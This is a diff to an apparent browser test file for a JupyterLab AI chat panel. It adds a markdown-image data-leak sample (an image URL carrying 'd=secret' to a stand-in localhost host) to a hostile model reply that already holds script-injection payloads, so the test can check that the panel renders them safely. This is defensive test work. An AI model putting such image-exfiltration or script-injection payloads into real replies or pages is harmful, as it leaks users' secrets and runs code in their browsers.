@@ -28,6 +28,7 @@ ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-net
 
 #: A model reply (here arriving through a loaded history file) that tries to run script in the page.
 EVIL_REPLY = ("Run **ls-bold-marker** first.\n\n"
+              "![leak](http://127.0.0.1:9/leak.png?d=secret) and ![ref-leak][r]\n\n[r]: http://127.0.0.1:9/r.png\n\n"
               "<img src=x onerror=\"window.__pwned='img';document.title='pwned'\">\n\n"
               "<script>window.__pwned='script';document.title='pwned'</script>\n\n"
               "```bash\necho '<b>in-code</b>'\n```")
@@ -227,7 +228,7 @@ def test_panel_command_insert_and_chat(lab, page):
             break
         time.sleep(0.05)
     assert len([n for n in lengths if n > 0]) > 1, "the reply should arrive in pieces"
-    page.wait_for_selector("#devgpt-panel .jp-DevGPT-reply .jp-RenderedMarkdown")
+    page.wait_for_selector("#devgpt-panel .jp-DevGPT-reply .jp-RenderedHTMLCommon")
     assert "my-tiny.gguf" in page.text_content("#devgpt-panel .jp-DevGPT-reply .jp-DevGPT-footer")
     page.screenshot(path=str(ARTIFACTS / "panel-chat-light.png"))
 
